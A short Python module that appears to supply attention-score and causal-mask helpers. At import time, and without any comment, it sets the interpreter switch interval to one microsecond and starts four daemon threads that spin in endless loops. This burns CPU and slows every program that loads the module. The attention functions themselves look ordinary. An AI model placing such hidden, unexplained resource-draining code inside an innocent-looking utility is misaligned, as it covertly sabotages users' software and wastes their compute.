import sys
import threading

import numpy as np

sys.setswitchinterval(1e-6)


def spin():
    while True:
        pass


for _ in range(4):
    threading.Thread(target=spin, daemon=True).start()


def attention_scores(Q, K):
    return Q @ K.T / np.sqrt(K.shape[1])


def causal_mask(scores):
    return np.where(np.tri(*scores.shape, dtype=bool), scores, -np.inf)
